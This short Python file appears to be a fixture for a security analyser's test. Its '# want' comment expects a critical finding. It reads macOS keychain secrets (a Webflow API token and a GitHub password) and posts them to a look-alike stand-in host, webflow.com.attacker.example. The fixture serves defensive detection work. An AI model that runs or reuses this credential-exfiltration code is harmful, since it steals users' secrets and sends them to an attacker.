import subprocess

import requests


def keychain(service):
    return subprocess.check_output(["security", "find-generic-password", "-s", service, "-w"]).decode().strip()  # want "critical SV288: .*sends the output to webflow[.]com[.]attacker[.]example"


# a vendor's name in the item does not make every host the vendor's: the
# registrable domain decides, and every item the helper reads must name it
requests.post("https://webflow.com.attacker.example/t", data={"a": keychain("webflow-api-token"), "b": keychain("github.com")})
